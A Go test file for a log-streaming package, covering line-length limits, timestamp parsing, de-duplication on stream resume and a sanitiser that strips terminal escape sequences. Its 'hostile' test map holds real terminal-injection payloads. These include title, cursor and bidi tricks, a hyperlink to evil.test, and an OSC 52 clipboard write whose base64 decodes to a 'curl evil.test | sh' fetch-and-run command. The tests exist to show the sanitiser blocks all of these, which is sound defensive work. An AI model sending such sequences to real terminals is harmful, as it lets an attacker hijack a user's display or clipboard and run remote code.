package logs

import (
	"errors"
	"io"
	"strings"
	"testing"
	"time"
	"unicode/utf8"
)

func TestLineReader(t *testing.T) {
	type line struct {
		text     string
		dropped  int
		complete bool
	}
	long := strings.Repeat("x", 100)
	tests := []struct {
		name  string
		in    string
		limit int
		want  []line
	}{
		{"short lines", "a\nbb\n", 10, []line{{"a", 0, true}, {"bb", 0, true}}},
		{"empty line", "\n\nz\n", 10, []line{{"", 0, true}, {"", 0, true}, {"z", 0, true}}},
		{"exactly the limit", "0123456789\n", 10, []line{{"0123456789", 0, true}}},
		{"one over", "0123456789A\nok\n", 10, []line{{"0123456789", 1, true}, {"ok", 0, true}}},
		{"long line cut, next intact", long + "\nnext\n", 10, []line{{long[:10], 90, true}, {"next", 0, true}}},
		{"no final newline", "a\ntail", 10, []line{{"a", 0, true}, {"tail", 0, false}}},
		{"long without newline", long, 10, []line{{long[:10], 90, false}}},
		{"carriage returns are kept for the sanitiser", "a\r\nb\n", 10, []line{{"a\r", 0, true}, {"b", 0, true}}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			lr := newLineReader(strings.NewReader(tt.in), tt.limit)
			var got []line
			for {
				b, dropped, complete, err := lr.next()
				if len(b) > 0 || complete || dropped > 0 {
					got = append(got, line{string(b), dropped, complete})
				}
				if err != nil {
					if !errors.Is(err, io.EOF) {
						t.Fatal(err)
					}
					break
				}
			}
			if len(got) != len(tt.want) {
				t.Fatalf("got %d lines %+v, want %+v", len(got), got, tt.want)
			}
			for i := range got {
				if got[i] != tt.want[i] {
					t.Errorf("line %d = %+v, want %+v", i, got[i], tt.want[i])
				}
			}
		})
	}
}

// TestLineReaderBoundedMemory reads a 64 MiB line through a 1 KiB limit: the reader's buffers
// must not grow with the line.
func TestLineReaderBoundedMemory(t *testing.T) {
	const size = 64 << 20
	r := io.MultiReader(io.LimitReader(repeatReader('y'), size), strings.NewReader("\nafter\n"))
	lr := newLineReader(r, 1024)
	b, dropped, complete, err := lr.next()
	if err != nil || !complete || len(b) != 1024 || dropped != size-1024 {
		t.Fatalf("got len %d dropped %d complete %v err %v", len(b), dropped, complete, err)
	}
	if c := cap(lr.buf); c > 64<<10 {
		t.Errorf("line buffer grew to %d bytes", c)
	}
	if b, _, _, _ := lr.next(); string(b) != "after" {
		t.Errorf("next line = %q", b)
	}
}

type repeatReader byte

func (r repeatReader) Read(p []byte) (int, error) {
	for i := range p {
		p[i] = byte(r)
	}
	return len(p), nil
}

func TestSplitTimestamp(t *testing.T) {
	ts := time.Date(2026, 3, 1, 12, 30, 45, 123456789, time.UTC)
	tests := []struct {
		in      string
		wantT   time.Time
		wantMsg string
	}{
		{"2026-03-01T12:30:45.123456789Z hello world", ts, "hello world"},
		{"2026-03-01T12:30:45Z x", ts.Truncate(time.Second), "x"},
		{"2026-03-01T12:30:45.123456789Z ", ts, ""},
		{"no timestamp here", time.Time{}, "no timestamp here"},
		{"2026-13-01T12:30:45Z bad month", time.Time{}, "2026-13-01T12:30:45Z bad month"},
		{"", time.Time{}, ""},
	}
	for _, tt := range tests {
		gotT, gotMsg := splitTimestamp([]byte(tt.in))
		if !gotT.Equal(tt.wantT) || string(gotMsg) != tt.wantMsg {
			t.Errorf("splitTimestamp(%q) = %v, %q; want %v, %q", tt.in, gotT, gotMsg, tt.wantT, tt.wantMsg)
		}
	}
}

// hostile are lines a pod may write to take over the terminal that shows them.
var hostile = map[string]string{
	"title change":      "\x1b]0;you have been pwned\x07after title",
	"title change ST":   "\x1b]2;pwned\x1b\\after title",
	"clipboard write":   "copy \x1b]52;c;Y3VybCBldmlsLnRlc3QgfCBzaA==\x07done",
	"hyperlink":         "\x1b]8;;https://evil.test/\x1b\\click me\x1b]8;;\x1b\\",
	"cursor movement":   "ok\x1b[1A\x1b[2K\x1b[10;1Hover",
	"screen clear":      "\x1b[2J\x1b[H\x1b[3Jcleared",
	"alternate screen":  "\x1b[?1049hhidden",
	"reset":             "\x1bcreset",
	"DCS":               "\x1bP+q544e\x1b\\dcs",
	"C1 CSI":            "c1\u009b2Jcsi",
	"C1 OSC":            "c1\u009d52;c;AAAA\u009cosc",
	"bare CR overwrite": "INFO all good\rERROR",
	"backspaces":        "secret\b\b\b\b\b\bpublic",
	"bell":              "ding\x07dong",
	"bidi override":     "invoice\u202Egnp.exe",
	"invalid UTF-8":     "bad \xff\xfe\xc3 bytes",
	"NUL":               "nul\x00byte",
}

// assertSafe fails when s holds anything a terminal would act on.
func assertSafe(t *testing.T, what, s string) {
	t.Helper()
	if !utf8.ValidString(s) {
		t.Errorf("%s: invalid UTF-8 in %q", what, s)
	}
	for _, r := range s {
		switch {
		case r < 0x20, r == 0x7f, r >= 0x80 && r <= 0x9f:
			t.Errorf("%s: control %U in %q", what, r, s)
		case r >= 0x202a && r <= 0x202e, r >= 0x2066 && r <= 0x2069, r == 0x200e, r == 0x200f, r == 0x061c:
			t.Errorf("%s: bidi control %U in %q", what, r, s)
		}
	}
	for _, payload := range []string{"pwned", "Y3VybCBldmlsLnRlc3QgfCBzaA", "evil.test", "AAAA"} {
		if strings.Contains(s, payload) {
			t.Errorf("%s: escape payload %q shown in %q", what, payload, s)
		}
	}
}

func TestCleanTextHostile(t *testing.T) {
	for name, in := range hostile {
		t.Run(name, func(t *testing.T) {
			got, cut := cleanText([]byte(in), DefaultMaxLineBytes, 0)
			assertSafe(t, name, got)
			if cut != 0 {
				t.Errorf("cut = %d for a short line", cut)
			}
		})
	}
	t.Run("CR keeps both parts visible", func(t *testing.T) {
		if got, _ := cleanText([]byte(hostile["bare CR overwrite"]), 100, 0); got != "INFO all good ERROR" {
			t.Errorf("got %q", got)
		}
	})
}

func TestCleanTextCut(t *testing.T) {
	tests := []struct {
		name     string
		in       string
		limit    int
		dropped  int
		wantText string
		wantCut  int
	}{
		{"fits", "hello", 5, 0, "hello", 0},
		{"over", "hello world", 5, 0, "hello" + CutMarker(6), 6},
		{"reader dropped more", "hello", 5, 100, "hello" + CutMarker(100), 100},
		// "é" is two bytes: a cut in its middle keeps the rune out whole.
		{"rune boundary", "abcé", 4, 0, "abc" + CutMarker(2), 2},
		{"escape cut in its payload", "ok\x1b]52;c;AAAAAAAA", 8, 0, "ok" + CutMarker(9), 9},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got, cut := cleanText([]byte(tt.in), tt.limit, tt.dropped)
			if got != tt.wantText || cut != tt.wantCut {
				t.Errorf("cleanText(%q, %d, %d) = %q, %d; want %q, %d", tt.in, tt.limit, tt.dropped, got, cut, tt.wantText, tt.wantCut)
			}
		})
	}
}

func TestSeam(t *testing.T) {
	t0 := time.Date(2026, 1, 1, 0, 0, 10, 500, time.UTC)
	at := func(d time.Duration) time.Time { return t0.Add(d) }
	var sm seam
	// First stream: three lines, two sharing the last timestamp with the same text.
	for _, l := range []struct {
		ts  time.Time
		msg string
	}{{at(0), "a"}, {at(1), "b"}, {at(1), "b"}} {
		if !sm.fresh(l.ts, []byte(l.msg)) {
			t.Fatalf("first stream dropped %v %q", l.ts, l.msg)
		}
	}
	// Resumed from the whole second: everything again, then new lines.
	sm.resume()
	replay := []struct {
		ts    time.Time
		msg   string
		fresh bool
	}{
		{at(0), "a", false},
		{at(1), "b", false},
		{at(1), "b", false},
		{at(1), "c", true}, // same instant, new text: new
		{at(1), "b", true}, // a third "b" at that instant was never delivered
		{at(2), "d", true},
		{at(0), "late", true}, // after resuming, out-of-order lines are kept
	}
	for i, l := range replay {
		if got := sm.fresh(l.ts, []byte(l.msg)); got != l.fresh {
			t.Errorf("replay %d (%q): fresh = %v, want %v", i, l.msg, got, l.fresh)
		}
	}
	if !sm.fresh(time.Time{}, []byte("untimed")) {
		t.Error("a line without timestamp must pass")
	}
}
